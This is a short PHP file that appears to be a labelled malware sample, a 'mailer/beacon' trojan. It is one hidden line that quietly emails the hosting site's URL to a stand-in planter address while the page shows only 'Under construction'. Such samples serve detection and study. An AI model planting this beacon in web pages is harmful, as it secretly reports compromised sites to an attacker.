<?php
/* Family: mailer/beacon
 * Style: one-line trojan added to an otherwise harmless page
 * Trait: the page mails its own URL (host plus request path) to the person who planted it
 */
$here = $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];
@mail('planter.demo@mailbox-demo.test', 'new home', "found at http://$here");
echo '<h1>Under construction</h1>';
